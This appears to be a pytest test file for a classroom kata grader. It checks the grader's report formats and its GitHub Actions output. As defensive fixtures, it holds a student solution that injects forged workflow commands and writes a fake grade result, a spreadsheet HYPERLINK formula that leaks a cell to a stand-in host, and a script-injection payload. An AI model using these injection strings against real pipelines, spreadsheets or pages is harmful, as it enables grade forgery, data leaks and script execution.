"""What a run hands in: the report's formats, and what GitHub Actions is told."""

import base64
import contextlib
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
from dataclasses import fields, replace
from itertools import product
from types import SimpleNamespace
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt

from grader import ROOT, __version__, cli
from grader.reports import formats, github_actions
from grader.reports.markdown import as_markdown
from grader.reports.merge import merge
from grader.reports.report import VERSION, KataReport, Report, TestReport, as_json
from grader.reports.sanitize import sanitize
from grader.sandbox.messages import GraderError

RIGHT = "def double(value):\n    return value * 2\n"
STUB = "def double(value):\n    raise NotImplementedError\n"
HALF = "def double(value):\n    return 4\n"
PARTLY = '''
def double(value):
    """Double one value; ::error::no command either."""
    if value == 2:
        raise NotImplementedError
    return value
'''
HOSTILE = r"""
import os

def double(value):
    print("::error::x\r::notice::y\n\t  ::add-mask::z\u2028::set-output name=result::1")
    print("\u3000::warning::a\x85::debug::b and ##[error]c\r\n::stop-commands::d\ud800\x1b[2J")
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        try:
            open(os.environ[name], "a").write("result=bm9uZQ==\n")
        except Exception as error:
            print(error)
    if value == 2:
        raise ValueError("\r\n::stop-commands::e\n\xa0::notice::f ##[add-mask]g \ud800\x00\ufffe")
    return "::error::h\n::error::i"
"""
NEEDS_MORE = '''
import pytest
from grader.testing import equal

@pytest.mark.needs("nothing_of_that_name")
def test_more(kata):
    """Anything.

    de: Irgendetwas.
    """
    equal(kata.double(1), 2)
'''
REPORTER = "KATA_REPORTER_SCRIPT"
"""The variable that names the script of classroom-resources/autograding-grading-reporter@v1."""
NAMES = ["10_double", "11_half", "12_partly", "13_hostile", "14_stub", "15_more"]
POINTS = [10, 5, 0, 0, 0, 0]


@pytest.fixture(scope="module")
def katas(shared_workshop):
    """One kata of each kind: solved, begun in three ways, untouched, not to be graded here."""
    for name, solution in zip(NAMES, (RIGHT, HALF, PARTLY, HOSTILE, STUB, RIGHT), strict=True):
        shared_workshop.add(name, solution)
    (shared_workshop.root / "katas/15_more/test_more.py").write_text(NEEDS_MORE)
    return shared_workshop


def grade(workshop, folder, *arguments, command=("grader", "grade"), **variables):
    """Grade as a step of a workflow does; the run, what it handed in and its step summary."""
    output, summary = folder / "output.txt", folder / "summary.md"
    output.write_text("")
    done = workshop.run(
        *command,
        *arguments,
        **{
            "GITHUB_ACTIONS": "true",
            "GITHUB_OUTPUT": str(output),
            "GITHUB_STEP_SUMMARY": str(summary),
            **variables,
        },
    )
    return SimpleNamespace(
        code=done.returncode,
        log=done.stdout + done.stderr,
        output=output.read_text(),
        result=decoded(output),
        summary=summary.read_text(encoding="utf-8") if summary.exists() else "",
    )


@pytest.fixture(scope="module")
def graded(katas, tmp_path_factory):
    """The katas, graded in a workflow."""
    return grade(katas, tmp_path_factory.mktemp("step"))


@pytest.fixture(scope="module")
def written(katas, tmp_path_factory):
    """The katas' report in every format, by the name of the format."""
    folder = tmp_path_factory.mktemp("reports") / "made" / "on demand"
    options = [f"--report={name}" for name in formats.FORMATS]
    done = katas.run("grader", "test", "--seed=7", f"--into={folder}", *options)
    assert done.returncode == 1, done.stderr
    texts = {}
    for name, (file_name, _) in formats.FORMATS.items():
        file = folder / file_name
        assert f"written: {file}\n" in done.stdout
        with file.open(encoding="utf-8", newline="") as stream:
            texts[name] = stream.read()
    return texts


def decoded(output):
    """What the reporter reads from a step's output file; the last result counts."""
    results = re.findall(r"^result=(.*)$", output.read_text(), re.MULTILINE)
    return json.loads(base64.b64decode(results[-1], validate=True)) if results else None


def commands(log):
    """The workflow commands that a runner finds: name, properties and data, still escaped."""
    found = []
    for line in re.split(r"\r\n|\r|\n", log):
        begun = re.match(r"::([\w-]+) ?(.*?)::(.*)", line.lstrip(), re.DOTALL)
        if match := begun or re.search(r"##\[([\w-]+)(.*?)\](.*)", line):
            found.append(match.groups())
    return found


def failure(**changes):
    parts = {"kind": "wrong", "headline": "said", "feedback": "said more", "line": 0} | changes
    return TestReport("test_one", "failed", 1, 0.25, reason="", output="", **parts)


PASSED = TestReport("test_one", "passed", 1, 0.25, "", "", "", 0, "", "")


def kata(*tests, name="10_double", points=0, state="begun", **changes):
    parts = {"title": "Title", "file": f"katas/{name}/double.py"} | changes
    return KataReport(name, rank=8, digest="ab" * 32, state=state, points=points,
                      max_points=10, worth=10, tests=tests, **parts)  # fmt: skip


def report(*katas):
    points = sum(k.points for k in katas), sum(k.max_points for k in katas)
    return Report(VERSION, __version__, None, "en", *points, katas)


# --- all of them


def test_every_view_tells_the_same_points(graded, written):
    whole = json.loads(written["json"])
    rows = list(csv.DictReader(io.StringIO(written["csv"], newline="")))
    gradescope = json.loads(written["gradescope"])
    assert [k["points"] for k in whole["katas"]] == POINTS
    assert (whole["points"], whole["max_points"]) == (15, 50)
    assert sum(t["score"] for t in graded.result["tests"]) == 15
    assert graded.result["max_score"] == 50
    assert [int(row["points"]) for row in rows] == POINTS
    assert sum(int(row["max_points"]) for row in rows) == 50
    assert gradescope["score"] == sum(t["score"] for t in gradescope["tests"]) == 15
    assert graded.summary.startswith("# 15 / 50 points\n")
    assert written["markdown"].startswith("# 15 / 50 points\n")
    assert re.search(r"^total +15/50 +1 of 6 solved", graded.log, re.MULTILINE)


def test_every_view_shows_the_failure_that_the_terminal_shows(graded, written):
    whole = json.loads(written["json"])
    first, second = whole["katas"][2]["tests"]
    assert (first["kind"], second["kind"]) == ("not_written", "wrong")
    assert "12_partly · test_three" in graded.log
    assert "12_partly · test_three" in graded.summary
    assert second["feedback"] == graded.result["tests"][2]["message"]
    assert (
        f"test_three\n{second['feedback']}"
        == (json.loads(written["gradescope"])["tests"][2]["output"])
    )


def test_the_command_knows_the_formats():
    assert set(cli.REPORTS) == set(formats.FORMATS)


def test_a_folder_that_cannot_be_made_is_said(katas, tmp_path):
    (tmp_path / "taken").write_text("")
    done = katas.run("grader", "test", "10", "--report=csv", f"--into={tmp_path / 'taken'}")
    assert done.returncode == 2
    assert done.stderr.startswith("The report cannot be written: ")
    assert "Traceback" not in done.stderr


def test_any_character_can_be_shown_anywhere(katas):
    done = katas.run("grader", "test", "13", PYTHONIOENCODING="ascii")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert r"\ud800\x00\ufffe" in done.stdout


# --- GitHub Classroom


def test_the_result_has_what_the_reporter_reads(graded, katas):
    assert graded.code == 1
    assert re.fullmatch(r"result=[A-Za-z0-9+/]+=*\n", graded.output)
    result = graded.result
    assert set(result) == {"version", "status", "max_score", "tests"}
    assert (result["version"], result["status"], result["max_score"]) == (1, "fail", 50)
    assert type(result["max_score"]) is int
    assert [t["name"] for t in result["tests"]] == NAMES[:5]
    assert [t["score"] for t in result["tests"]] == POINTS[:5]
    assert [t["status"] for t in result["tests"]] == ["pass", "fail", "fail", "fail", "fail"]
    for test in result["tests"]:
        assert set(test) == {
            "name", "status", "score", "message", "test_code", "filename", "line_no", "duration",
        }  # fmt: skip
        assert (type(test["score"]), type(test["line_no"])) == (int, int)
        assert bool(test["message"]) == (test["status"] == "fail")
        assert test["test_code"] == ""
        assert (katas.root / test["filename"]).is_file()
        assert 0 <= test["duration"] < 60
    assert [t["line_no"] for t in result["tests"]] == [0, 0, 0, 13, 2]
    assert result["tests"][1]["message"].startswith("`double` returned the wrong value.\n")


def test_the_published_reporter_hands_in_the_sum_of_the_points(graded, tmp_path):
    script, node = os.environ.get(REPORTER), shutil.which("node")
    if script is None or node is None:
        pytest.skip(f"needs Node.js, and {REPORTER} with the path of the reporter's dist/main.js")
    results = graded.output.removeprefix("result=").strip()
    variables = {"INPUT_RUNNERS": "katas", "KATAS_RESULTS": results, "PATH": os.environ["PATH"]}
    done = subprocess.run(
        [node, script], env=variables, cwd=tmp_path, capture_output=True, text=True
    )
    found = {re.sub(".*title=", "", how): what for name, how, what in commands(done.stdout)}
    assert found["Autograding complete"] == "Points 15/50"
    assert json.loads(found["Autograding report"]) == {"totalPoints": 15, "maxPoints": 50}


def test_all_solved_is_a_pass(katas, tmp_path):
    done = grade(katas, tmp_path, "10", "15")
    assert done.code == 0
    assert (done.result["status"], done.result["max_score"]) == ("pass", 10)
    assert [t["name"] for t in done.result["tests"]] == ["10_double"]
    assert commands(done.log) == []


def check_error(done, *said):
    """An error is handed in with its message, as no grade at all."""
    assert (done.result["version"], done.result["status"]) == (1, "error")
    assert done.result["max_score"] == 0
    (test,) = done.result["tests"]
    assert (test["name"], test["status"], test["score"]) == ("the grader", "error", 0)
    assert (type(test["score"]), type(test["line_no"])) == (int, int)
    for text in said:
        assert text in test["message"]


def test_nothing_graded_is_an_error(katas, tmp_path):
    done = grade(katas, tmp_path, "15")
    assert done.code == 1
    check_error(done, "Nothing was graded.")


def test_a_broken_test_file_is_an_error(workshop, tmp_path):
    workshop.add(tests="import nothing_of_that_name\n\ndef test_one(kata):\n    pass\n")
    done = grade(workshop, tmp_path)
    assert done.code == 3
    check_error(done, "GraderError: 10_double", "nothing_of_that_name")
    assert done.summary.startswith("# The grader itself failed\n\n    GraderError: 10_double")
    assert commands(done.log) == []


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (GraderError("::error::pytest\n::notice::failed"), "GraderError: ::error::pytest"),
        (FileNotFoundError(2, "No such file", "test.py"), "FileNotFoundError: [Errno 2] No such"),
        (KeyboardInterrupt(), "KeyboardInterrupt"),
        (RuntimeError("x" * 10**6), "RuntimeError: xxx"),
    ],
)
def test_whatever_happens_a_result_is_handed_in(monkeypatch, tmp_path, capsys, error, message):
    def failing(_options, **_):
        raise error
        yield

    output = tmp_path / "output.txt"
    monkeypatch.setattr(cli, "_graded", failing)
    monkeypatch.setenv("GITHUB_OUTPUT", str(output))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    with contextlib.suppress(FileNotFoundError, RuntimeError):
        assert cli.main(["grade"]) in (3, 130)
    check_error(SimpleNamespace(result=decoded(output)), message)
    assert len(output.read_text()) < 10_000
    assert commands("".join(capsys.readouterr())) == []


def test_a_report_that_cannot_be_made_is_an_error_too(monkeypatch, tmp_path):
    output = tmp_path / "output.txt"
    monkeypatch.setattr(cli, "_graded", lambda _options, **_: [None])
    monkeypatch.setenv("GITHUB_OUTPUT", str(output))
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    with pytest.raises(AttributeError):
        cli.main(["grade"])
    check_error(SimpleNamespace(result=decoded(output)), "AttributeError")


def test_the_result_fits_into_a_variable_of_the_environment():
    long = kata(failure(feedback='"\n\x00ü🧠' * 1000), PASSED, points=5)
    katas = [replace(long, name=f"{n:02}_long") for n in range(100)]
    found = github_actions.result(report(*katas))
    assert len("KATAS_RESULTS=" + github_actions.encoded(found)) < 2**17
    assert sum(t["score"] for t in found["tests"]) == 500
    assert len(found["tests"]) == 100
    assert len(github_actions.result(report(long))["tests"][0]["message"]) == 2000


def test_outside_of_actions_nothing_is_handed_in(katas, tmp_path):
    off = {"GITHUB_ACTIONS": "", "GITHUB_OUTPUT": "", "GITHUB_STEP_SUMMARY": ""}
    done = grade(katas, tmp_path, "11", **off)
    assert (done.code, done.output, done.summary) == (1, "", "")
    assert commands(done.log) == []


# --- workflow commands


def test_only_annotations_of_ours_are_commands(graded):
    found = commands(graded.log)
    assert [name for name, _, _ in found] == ["error"] * 3
    assert [properties.split(",title=")[0] for _, properties, _ in found] == [
        "file=katas/11_half/half.py,line=1",
        "file=katas/12_partly/partly.py,line=1",
        "file=katas/13_hostile/hostile.py,line=13",
    ]
    assert ": :error::x\n: :notice::y\n" in graded.log
    assert "# #[error]c\n: :stop-commands::d" in graded.log


def test_a_solution_cannot_hand_in_a_result_of_its_own(graded):
    assert graded.output.count("result=") == 1
    assert "bm9uZQ==" not in graded.output + graded.summary
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        assert f"'{name}'\n" in graded.log  # a KeyError: it does not even know the files


@pytest.mark.parametrize(
    "command",
    ["::error::x", "::notice file=a,line=1::x", "::add-mask::x", "::set-output name=result::x",
     "::stop-commands::x", ":::error::x", "##[error]x", "###[add-mask]x", "::::x"],
)  # fmt: skip
def test_no_text_is_a_command(command):
    ends = ("", "\n", "\r", "\r\n", "\n\r", "\v", "\f", "\x85", "\u2028")
    spaces = ("", "  ", "\t", "\xa0", "\u2003", "\u3000", "\ufeff", "\x1b[0m")
    for end, space in product(ends, spaces):
        for shown in (sanitize(f"{space}{command}"), sanitize(f"said{end}{space}{command}")):
            assert commands(shown) == []
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)


def test_harmless_text_stays_as_it_is():
    text = "a: 1\n  b::c :: d\n\t# [x] ## y\nx[::2] µ → 🧠\n"
    assert sanitize(text) == text


def test_annotations_are_escaped_as_github_demands():
    name, said = "10_a,b:c%d", "100 %\r\n::error::x, y: z\n%0A"
    odd = kata(failure(feedback=said, line=7), name=name, file="a,b:c%d\n.py")
    (line,) = github_actions.annotations(report(odd))
    head, data = line.removeprefix("::error ").split("::")[:1], line.split("::", 2)[2]
    assert "\n" not in line
    assert "\r" not in line
    assert unquote(data) == said
    properties = dict(part.split("=") for part in head[0].split(","))
    assert {key: unquote(value) for key, value in properties.items()} == {
        "file": "a,b:c%d\n.py",
        "line": "7",
        "title": f"{name}, test_one",
    }
    assert data.startswith("100 %25%0D%0A::error::x, y: z%0A%250A")


def test_github_shows_ten_annotations_of_a_kind():
    begun = [kata(failure(), name=f"{n}_double") for n in range(10, 25)]
    untouched = kata(failure(kind="not_written"), state="untouched", name="09_double")
    lines = list(github_actions.annotations(report(untouched, *begun)))
    assert len(lines) == 10
    assert "katas/10_double/double.py" in lines[0]


# --- the step summary


def test_a_summary_stays_below_one_mebibyte():
    for feedback in ("🧠" * 5000, "\n" * 20_000, "ü|`<b>\n" * 5000):
        long = kata(failure(feedback=feedback), title="T" * 60)
        katas = [replace(long, name=f"{n:02}_{'x' * 40}") for n in range(100)]
        assert len(as_markdown(report(*katas)).encode()) < 2**20


def test_nothing_in_feedback_breaks_the_markdown():
    said = (
        "```\n</code></pre><h1>x</h1>\n| a | b |\n|---|---|\n# x\n\n\n- `y\n\t~~~\r<!-- z\u2028# w"
    )
    text = as_markdown(report(kata(failure(feedback=said)), kata(PASSED, state="solved")))
    tokens = MarkdownIt().enable("table").parse(text)
    assert [t.content for t in tokens if t.type == "code_block"] == [
        "\n".join(said.splitlines()) + "\n"
    ]
    assert [t.type for t in tokens if t.type in ("html_block", "fence", "bullet_list_open")] == []
    assert sum(t.type == "heading_open" for t in tokens) == 2
    assert sum(t.type == "table_open" for t in tokens) == 1
    assert text.endswith("Next: 10_double. Read `katas/10_double/README.md`.\n")


def test_a_summary_in_german(monkeypatch):
    monkeypatch.setenv("KATA_LANG", "de")
    text = as_markdown(report(kata(failure(), points=5)))
    assert text.startswith("# 5 / 10 Punkte\n\n| Kata | Punkte | Stand |\n")
    assert "| 10_double, Title | 5 / 10 | begonnen |\n" in text
    assert text.endswith("Weiter mit 10_double: Lies `katas/10_double/README.de.md`.\n")


# --- the files


def test_the_json_says_what_was_graded_by_what(written, katas):
    whole = json.loads(written["json"])
    assert list(whole) == [f.name for f in fields(Report)]
    head = [whole[key] for key in ("version", "grader", "seed", "lang")]
    assert head == [1, __version__, 7, "en"]
    assert [k["name"] for k in whole["katas"]] == NAMES
    assert [k["state"] for k in whole["katas"]] == [
        "solved", "begun", "begun", "begun", "untouched", "not_graded",
    ]  # fmt: skip
    for entry in whole["katas"]:
        assert list(entry) == [f.name for f in fields(KataReport)]
        file = katas.root / entry["file"]
        assert entry["digest"] == hashlib.sha256(file.read_bytes()).hexdigest()
        for test in entry["tests"]:
            assert list(test) == [f.name for f in fields(TestReport)]
            failed = test["outcome"] == "failed"
            assert failed == bool(test["headline"]) == bool(test["feedback"]) == bool(test["kind"])
            assert bool(test["reason"]) == (test["outcome"] == "not_graded")
            assert (type(test["weight"]), type(test["line"])) == (int, int)
    assert whole["katas"][3]["tests"][0]["output"].startswith("::error::x\r::notice::y\n")


def test_a_file_that_is_missing_has_no_digest(katas, tmp_path):
    done = katas.run(
        "grader", "test", "10", f"--against={tmp_path}", "--report=json", f"--into={tmp_path / 'r'}"
    )
    assert done.returncode == 1
    (entry,) = json.loads((tmp_path / "r/report.json").read_text())["katas"]
    assert entry["file"] == (tmp_path / "10_double/double.py").as_posix()
    assert (entry["digest"], entry["points"], entry["state"]) == ("", 0, "begun")


def test_the_csv_has_a_row_per_kata(written):
    header, *rows = csv.reader(io.StringIO(written["csv"], newline=""))
    assert header == [
        "kata", "title", "points", "max_points", "state", "passed", "graded", "file", "digest",
        "worth",
    ]  # fmt: skip
    assert rows[1][:8] == [
        "11_half", "Title", "5", "10", "begun", "1", "2", "katas/11_half/half.py",
    ]  # fmt: skip
    assert rows[5][2:7] == ["0", "0", "not_graded", "0", "0"]
    assert written["csv"].count("\r\n") == len(rows) + 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_a_spreadsheet_calculates_nothing(start):
    formula = f'{start}HYPERLINK("https://x.example/?"&A1,"ok")'
    odd = kata(PASSED, title=formula, file=formula)
    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
    assert (row[1], row[7]) == (f"'{formula}", f"'{formula}")


def test_a_csv_keeps_commas_quotes_and_lines():
    odd = kata(PASSED, title='a, "b"; c\nd\r\ne', file='x,"y".py')
    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
    assert (row[1], row[7]) == ('a, "b"; c\nd\r\ne', 'x,"y".py')


def test_junit_counts_what_it_holds(written):
    root = ElementTree.fromstring(written["junit"])
    assert root.tag == "testsuites"
    for parent in (root, *root):
        cases = list(parent.iter("testcase"))
        assert int(parent.get("tests")) == len(cases)
        assert int(parent.get("failures")) == len(list(parent.iter("failure")))
        assert int(parent.get("skipped")) == len(list(parent.iter("skipped")))
        assert parent.get("errors") == "0"
        seconds = sum(float(case.get("time")) for case in cases)
        assert float(parent.get("time")) == pytest.approx(seconds, abs=1e-6)
    counts = [int(root.get(name)) for name in ("tests", "failures", "skipped")]
    assert counts == [11, 7, 1]
    assert [suite.get("name") for suite in root] == NAMES
    case = root.find("testsuite[@name='11_half']/testcase[@name='test_three']")
    assert case.get("classname") == "11_half"
    assert case.get("file") == "katas/11_half/half.py"
    assert case.find("failure").get("message") == "`double` returned the wrong value."
    assert "  expected  6\n  actual    4" in case.find("failure").text


def test_junit_is_well_formed_whatever_a_solution_says():
    odd = "a ]]> <b> & \"'\t" + "".join(map(chr, range(32))) + "\x7f\ud800\udfff\ufffe\uffff🧠"
    test = replace(failure(headline=odd, feedback=odd), output=odd)
    skipped = replace(PASSED, outcome="not_graded", reason=odd)
    text = formats.as_junit(report(kata(test, skipped, file=odd)))
    case, other = ElementTree.fromstring(text.encode()).iter("testcase")
    for said in (case.find("failure").text, case.find("system-out").text, case.get("file")):
        assert said.startswith("a ]]> <b> & \"'\t")
        assert said.endswith("\x7f����🧠")
    assert other.find("skipped").get("message").endswith("🧠")


def test_gradescope_gets_a_score_per_kata(written):
    result = json.loads(written["gradescope"])
    assert set(result) == {"score", "tests"}
    assert [t["score"] for t in result["tests"]] == POINTS
    assert [t["max_score"] for t in result["tests"]] == [10] * 5 + [0]
    assert [t.get("status") for t in result["tests"]] == ["passed", *["failed"] * 4, None]
    for test in result["tests"]:
        assert (type(test["score"]), type(test["max_score"])) == (int, int)
        assert test["output_format"] == "text"
        assert test["output"]
    assert result["tests"][0]["name"] == "10_double Title"
    assert result["tests"][0]["output"] == "All tests passed."
    assert "nothing_of_that_name" in result["tests"][5]["output"]


def test_every_file_takes_any_text(tmp_path):
    odd = kata(failure(feedback="\ud800", headline="\udfff"), title="\ud800", file="\udcff.py")
    for file in formats.write(report(odd), list(formats.FORMATS), tmp_path):
        assert file.read_text(encoding="utf-8")
    assert json.loads((tmp_path / "report.json").read_text())["katas"][0]["file"] == "\udcff.py"
    assert json.loads(as_json(report(odd)))["katas"][0]["title"] == "\ud800"


# --- the page


def test_the_page_shows_each_failure_of_what_was_begun(written):
    page = written["html"]
    assert "<h1>15 / 50 points</h1>" in page
    assert page.count("<details open>") == 3
    assert page.count("<summary>") == 5
    assert '<td class="number">– / 10</td>' in page
    assert "  expected  6\n  actual    4" in page
    assert commands(page) == []
    assert "<script" not in page


def test_nothing_in_a_solution_gets_into_the_page():
    odd = "</pre><script>alert(1)</script>"
    bad = replace(failure(headline=odd, feedback=odd), output=odd)
    page = formats.as_html(report(kata(bad, title=odd, file=odd)))
    assert "<script" not in page
    assert page.count("&lt;script&gt;") == 4


# --- merging


GPU = replace(PASSED, name="test_gpu", weight=3)
NO_GPU = replace(GPU, outcome="not_graded", reason="needs a GPU")


def save(folder, *reports):
    """Each as a file of its own."""
    saved = []
    for number, content in enumerate(reports):
        saved.append(folder / f"{number}.json")
        saved[-1].write_text(as_json(content))
    return saved


def test_what_was_not_graded_is_filled_in(tmp_path):
    here = report(
        kata(failure(), NO_GPU, points=0),
        replace(kata(NO_GPU, name="11_half", state="not_graded"), max_points=0),
    )
    there = report(
        kata(replace(PASSED, seconds=9), GPU, points=10, state="solved"),
        kata(GPU, name="11_half", points=10, state="solved"),
        kata(failure(), name="12_more"),
    )
    merged, said = merge(save(tmp_path, here, there))
    assert said == []
    assert [(k.points, k.max_points, k.state) for k in merged.katas] == [
        (7, 10, "begun"), (10, 10, "solved"), (0, 10, "begun"),
    ]  # fmt: skip
    assert (merged.points, merged.max_points) == (17, 30)
    assert [t.outcome for t in merged.katas[0].tests] == ["failed", "passed"]


def test_a_report_on_another_file_is_left_out_and_named(tmp_path):
    here = report(kata(PASSED, NO_GPU, points=10, state="solved"))
    there = report(replace(kata(PASSED, GPU, points=10, state="solved"), digest="cd" * 32))
    merged, said = merge(save(tmp_path, here, there))
    assert merged == here
    assert said == [
        f"10_double: {tmp_path / '1.json'} graded another file or other tests; it was left out."
    ]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("{", "is no report as"),
        ("[]", "is no report as"),
        ('{"version": 99}', "is no report as"),
        (as_json(replace(report(kata(PASSED)), seed=3)), "differ in `seed`: grade again"),
        (as_json(replace(report(kata(PASSED)), points="<meta>")), "is no report as"),
        (as_json(report(replace(kata(PASSED), worth="10"))), "is no report as"),
        (as_json(report(kata(replace(PASSED, outcome="perfect")))), "is no report as"),
        (as_json(report(kata(replace(PASSED, feedback=None)))), "is no report as"),
    ],
)
def test_what_cannot_be_merged_is_said(tmp_path, capsys, content, said):
    (file,) = save(tmp_path, report(kata(PASSED)))
    other = tmp_path / "other.json"
    other.write_text(content)
    assert cli.main(["merge", str(file), str(other), f"--into={tmp_path / 'r'}"]) == 2
    assert said in capsys.readouterr().err
    assert not (tmp_path / "r").exists()


def test_a_merged_report_is_written_like_any_other(tmp_path, capsys):
    one = save(tmp_path, report(kata(PASSED, points=10, state="solved")))
    into = tmp_path / "r"
    assert cli.main(["merge", *map(str, one), f"--into={into}", "--report=html"]) == 0
    assert capsys.readouterr().out == f"written: {into / 'report.html'}\n"
    assert cli.main(["merge", str(tmp_path / "none.json")]) == 2
    assert "none.json: No such file" in capsys.readouterr().err


# --- the workflow


def test_the_workflow_is_what_classroom_looks_for():
    text = (ROOT / ".github/workflows/classroom.yml").read_text(encoding="utf-8")
    lines = [line.strip() for line in text.splitlines()]
    for line in (
        "name: Autograding Tests",
        "on: [push, repository_dispatch]",
        "checks: write",
        "actions: read",
        "contents: read",
        "UV_TORCH_BACKEND: cpu",
        "run-autograding-tests:",
        "enable-cache: true",
    ):
        assert lines.count(line) == 1, line
    assert "\t" not in text


def test_the_workflow_hands_on_what_its_grading_step_wrote():
    text = (ROOT / ".github/workflows/classroom.yml").read_text(encoding="utf-8")
    grading, _, reporting = text.split("        id: ")[1].partition("      - if: ")
    (runner,) = re.findall(r"runners: (\S+)\n", reporting)
    assert re.fullmatch("[a-zA-Z0-9]+", runner)  # the reporter takes no other names
    assert grading.startswith(f"{runner}\n")
    assert re.findall(r"run: (.+)\n", text) == ["uvx nox -s grade"]
    assert (
        f"uses: classroom-resources/autograding-grading-reporter@v1\n{' ' * 8}env:\n" in reporting
    )
    result = f"steps.{runner}.outputs.result"
    assert f'{runner.upper()}_RESULTS: "${{{{ {result} }}}}"\n' in reporting
    assert f"!cancelled() && {result} != ''" in reporting


def test_the_workflow_grades_nothing_where_the_solutions_are():
    text = (ROOT / ".github/workflows/classroom.yml").read_text(encoding="utf-8")
    _, *steps = text.split("      - ")
    guarded = ["if: hashFiles('reference/**') == ''" in step for step in steps]
    assert guarded == [False, True, True, False]
    assert "outputs.result != ''" in steps[3]
    assert (ROOT / "reference").is_dir()


def test_one_command_grades_a_copy_without_solutions(workshop, tmp_path):
    workshop.add()
    (workshop.root / "reference").rmdir()
    done = grade(workshop, tmp_path, command=("nox", "--no-venv", "-s", "grade"))
    assert done.code == 0, done.log
    assert (done.result["status"], done.result["tests"][0]["score"]) == ("pass", 10)


def test_the_page_names_every_field_and_column(written):
    page = (ROOT / "docs/reports.md").read_text(encoding="utf-8")
    json_part = page.split("## JSON")[1].split("## ")[0]
    tables = json_part.split("|---|---|---|\n")[1:]
    for table, kind in zip(tables, (Report, KataReport, TestReport), strict=True):
        rows = re.findall(r"^\| (`.+?) \|", table, re.MULTILINE)
        assert set(re.findall(r"`(\w+)`", " ".join(rows))) == {f.name for f in fields(kind)}
    header = next(csv.reader(io.StringIO(written["csv"], newline="")))
    csv_part = page.split("## CSV")[1].split("## ")[0]
    assert re.findall(r"`(\w+)`", csv_part)[: len(header)] == header
    for name, (file_name, _) in formats.FORMATS.items():
        assert f"| `{name}` | `{file_name}` |\n" in page
